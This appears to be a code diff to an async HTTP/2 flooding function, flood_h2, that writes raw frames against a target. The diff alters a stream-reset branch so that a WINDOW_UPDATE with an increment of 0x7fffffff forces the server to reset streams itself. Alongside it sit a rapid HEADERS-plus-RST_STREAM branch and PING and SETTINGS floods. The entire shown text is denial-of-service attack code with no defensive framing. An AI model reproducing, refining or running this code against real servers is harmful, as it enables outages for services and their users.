@@ -217,8 +217,8 @@ async def flood_h2(target):
                 if kind == "reset":
                     writer.write(frame(1, 5, stream, fields(target)) + frame(3, 0, stream, b"\0\0\0\x08"))
                 elif kind == "made":
-                    # A window that grows by nothing: the server has to reset the stream itself.
-                    writer.write(frame(1, 4, stream, fields(target, b"POST")) + frame(8, 0, stream, b"\0\0\0\0"))
+                    # A window that grows beyond its bound: the server has to reset the stream itself.
+                    writer.write(frame(1, 4, stream, fields(target, b"POST")) + frame(8, 0, stream, b"\x7f\xff\xff\xff"))
                 elif kind == "ping":
                     writer.write(frame(6, 0, 0, b"12345678"))
                 elif kind == "settings":
